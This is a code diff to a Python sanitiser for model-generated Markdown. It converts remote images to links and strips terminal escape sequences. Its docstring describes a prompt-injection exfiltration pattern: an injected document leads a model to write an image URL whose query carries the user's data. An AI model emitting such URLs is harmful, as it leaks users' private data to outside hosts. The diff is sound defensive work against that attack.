@@ -8,6 +8,12 @@ so the result is safe whether or not a renderer takes it for math.
 
 Where code starts and ends is decided by a CommonMark parser; the result is parsed again
 and, should any raw HTML survive (the scan and the parser disagreed), escaped more widely.
+
+Two more things never reach a front end from model output. Remote images: a model fed a
+prompt-injected document can write ``![](https://host/?q=<your data>)``, and a browser that
+loads it sends the data away. Unless the session allows them (``remote_images``), images
+other than inline ``data:`` ones are shown as links. And terminal escape sequences (ANSI
+colours, OSC titles and hyperlinks): terminal front ends act on them in ``text/plain``.
 """
 from __future__ import annotations
 
@@ -18,17 +24,53 @@ _TAG_START = re.compile(r"<(?=[A-Za-z/!?])")
 _AUTOLINK = re.compile(r"<(?:(?:https?|mailto|ftp):[^\s<>]*|[\w.+-]+@[\w-]+(?:\.[\w-]+)+)>", re.ASCII)
 _LINE = re.compile(r"[^\r\n]*(?:\r\n?|\n)|[^\r\n]+")  # lines as CommonMark counts them
 _PUNCTUATION = frozenset(r"""!"#$%&'()*+,-./:;<=>?@[\]^_`{|}~""")
+#: Escape sequences (CSI, OSC up to BEL or ST, two-byte ESC forms) and the C0/C1 controls a
+#: terminal acts on; tab, newline and carriage return stay.
+_CONTROLS = re.compile(r"\x1b\[[0-?]*[ -/]*[@-~]?|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?|\x1b[ -~]?"
+                       r"|\x9b[0-?]*[ -/]*[@-~]?|\x9d[^\x07\x1b\x9c]*[\x07\x9c]?|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
+_INLINE_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,", re.I)
+_MARKDOWN_INLINE_IMAGE = re.compile(r"!\[[^\]\n]*\]\(\s*<?data:image/(png|jpeg|gif|webp);base64,", re.I)
+_remote_images = False
+
+
+def allow_remote_images(allowed: bool) -> None:
+    """Let model output load images from other sites (the ``remote_images`` setting)."""
+    global _remote_images
+    _remote_images = bool(allowed)
+
+
+def inline_image(src: str) -> bool:
+    """True for an image carried in the text itself (a ``data:image/...;base64,`` URL)."""
+    return bool(_INLINE_IMAGE.match(src.strip()))
+
+
+def image_allowed(src: str) -> bool:
+    """True for an image source a page may load: inline ``data:`` images, or any when allowed."""
+    return _remote_images or inline_image(src)
+
+
+def strip_controls(text: str) -> str:
+    """``text`` without terminal escape sequences and control characters.
+
+    Example::
+
+        strip_controls("\x1b[31mred\x1b[0m \x1b]0;title\x07done")   # 'red done'
+    """
+    return _CONTROLS.sub("", text)
 
 
 def safe_markdown(text: str) -> str:
     """``text`` with raw HTML neutralised and code, math and the rest left as written.
+
+    Remote images become links (unless allowed) and terminal escape sequences are removed.
 
     Example::
 
         safe_markdown("Hi <script>alert(1)</script> `<b>`")
         # 'Hi &lt;script>alert(1)&lt;/script> `<b>`'
     """
-    if "<" not in text:
+    text = strip_controls(text)
+    if "<" not in text and ("![" not in text or _remote_images):
         return text
     code = _code_lines(text)
     for spans in (True, True, False):
@@ -101,6 +143,10 @@ def _escape_inline(text: str, spans: bool) -> str:
             math, stop = _math(text, i)
             out.append(math)
             i = stop
+        elif c == "!" and text.startswith("![", i) and not _remote_images and not _MARKDOWN_INLINE_IMAGE.match(text, i):
+            # "\![alt](url)" is a "!" and a link: the URL is shown, never fetched.
+            out.append("\\!")
+            i += 1
         elif c == "<":
             link = _AUTOLINK.match(text, i)
             if link:
